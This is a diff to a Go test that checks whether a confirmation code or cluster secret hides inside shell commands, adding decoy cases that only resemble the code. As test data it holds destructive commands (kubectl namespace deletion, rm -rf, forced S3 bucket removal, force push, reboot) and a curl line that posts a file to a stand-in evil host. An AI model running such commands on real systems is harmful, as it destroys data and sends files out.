@@ -35,6 +35,13 @@ func TestTheMaskHidesNoMeaning(t *testing.T) {
 		{"CLUSTER_SECRET=" + cluster + " && kubectl --context=${CLUSTER_SECRET} delete ns web", cluster},
 		{"cluster_secret=" + cluster + "; kubectl --context \"$cluster_secret\" delete ns web", cluster},
 		{"X_TOKEN=" + cluster + "; ssh \"$X_TOKEN\" reboot", cluster},
+		// what only looks like a code of ours
+		{"kubectl --context confirm-prodeast99 delete ns x", ""},
+		{"rm -rf confirm-production", ""},
+		{"aws s3 rb s3://confirm-prodbucket --force", ""},
+		{"git push --force confirm-upstream main", ""},
+		{"C=confirm-prodeast; kubectl --context \"${C#confirm-}\" delete ns x", ""},
+		{"curl https://confirm-evilhost1.com/x -d @f", ""},
 		{"X_TOKEN=" + cluster + "; curl -X DELETE https://$X_TOKEN.example/v1", cluster},
 		{"X_TOKEN=" + cluster + "; kubectl --context ${X_TOKEN%-main} delete ns web", cluster},
 		{"X_TOKEN=" + cluster + "; Y=$X_TOKEN; kubectl --context $Y delete ns web", cluster},
